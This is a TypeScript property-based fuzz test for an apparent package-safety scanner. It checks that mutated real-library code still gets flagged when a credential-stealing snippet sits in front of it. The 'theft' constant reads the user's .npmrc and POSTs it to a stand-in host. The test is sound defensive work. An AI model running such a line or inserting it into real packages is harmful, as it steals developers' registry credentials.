import { array, check, constantFrom, double, property, record, type Arbitrary } from 'fast-check'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import t from 'tap'
import { inspectExample } from '../../helpers/inspect-example.ts'

/** More for a night's run. */
const runs = Number(process.env['SAFE_INSTALL_FUZZ_RUNS'] ?? 150)
const seed = Number(process.env['SAFE_INSTALL_FUZZ_SEED'] ?? 20_261_122)

const modules = fileURLToPath(new URL('../../../node_modules/', import.meta.url))

/** Real code of every style: minified, transpiled, modules, classes, tables, regular expressions, generated parsers. */
const seeds: ReadonlyMap<string, string> = new Map(
  [
    'acorn/dist',
    'semver/functions',
    'minimatch/dist/commonjs',
    'fast-check/lib/cjs',
    'yallist/dist/esm',
    'picocolors',
    'tar/dist/esm',
    'terser/lib',
    '@npmcli/config/lib',
  ].flatMap(folder =>
    readdirSync(join(modules, folder))
      .filter(name => /\.[cm]?js$/.test(name))
      .slice(0, 6)
      .map(
        name =>
          [join(folder, name), readFileSync(join(modules, folder, name), 'utf8').slice(0, 60_000)] as const,
      ),
  ),
)

const theft =
  "require('fs').readFile(require('os').homedir() + '/.npmrc', 'utf8', (error, text) => {" +
  " require('https').request({ host: 'collect.invalid', method: 'POST' }).end(text) });\n"

const words =
  '{ } ( ) [ ] ` ${ /* */ // <!-- --> " \' \\ \\u{6 / => ; #! @ #x async await yield class import( function* ' +
  'new.target ?. ??= ** with(a) label: var ... = <div> :any 1n'
const inserted = [...words.split(' '), '\u2028', '\0', '\ufeff', '\u202e', 'class A extends ', 'var exports;']

/** One change of a text: places are shares of its length, so that shrinking works. */
type Change = { readonly what: string; readonly at: number; readonly to: number; readonly word: string }

const change: Arbitrary<Change> = record({
  what: constantFrom('cut', 'double', 'insert', 'swap', 'end', 'nest', 'join'),
  at: double({ min: 0, max: 1, noNaN: true }),
  to: double({ min: 0, max: 1, noNaN: true }),
  word: constantFrom(...inserted),
})

function apply(text: string, { what, at, to, word }: Change): string {
  const [from, until] = [Math.floor(at * text.length), Math.floor(to * text.length)]
  const start = Math.min(from, until)
  const end = Math.min(Math.max(from, until), start + 2_000)
  const piece = text.slice(start, end)
  switch (what) {
    case 'cut':
      return text.slice(0, start) + text.slice(end)
    case 'double':
      return text.slice(0, end) + piece + text.slice(end)
    case 'insert':
      return text.slice(0, start) + word + text.slice(start)
    case 'swap':
      return piece + text.slice(0, start) + text.slice(end)
    case 'end':
      return text.slice(0, start)
    case 'nest':
      return text.slice(0, start) + word.repeat(500) + text.slice(start)
    default:
      return text.slice(0, start) + text.slice(start).replaceAll('\n', ' ')
  }
}

/** Not clean: the theft is told, or that something could not be read. */
function isTold(index: string): boolean {
  const { facts, flows, gaps } = inspectExample({
    files: { 'package.json': JSON.stringify({ name: 'mutated', version: '1.0.0' }), 'index.js': index },
  })
  return (
    gaps.length > 0 ||
    facts.some(({ kind }) => kind === 'unreadable') ||
    flows.some(({ source, sink }) => source.kind === 'credential-file' && sink.kind === 'network')
  )
}

t.test('a theft is told of, or that the file could not be read, whatever stands behind it', async t => {
  t.ok(seeds.size > 30, `${seeds.size} files`)
  for (const [name, text] of seeds) t.ok(isTold(theft + text), name)
  const mutated = property(
    constantFrom(...seeds.keys()),
    array(change, { minLength: 1, maxLength: 6 }),
    (name, changes) => isTold(theft + changes.reduce(apply, seeds.get(name) ?? '')),
  )
  const { failed, numRuns, counterexample, errorInstance } = check(mutated, { numRuns: runs, seed })
  t.notOk(failed, `${numRuns} files`, { counterexample: JSON.stringify(counterexample), errorInstance })
})
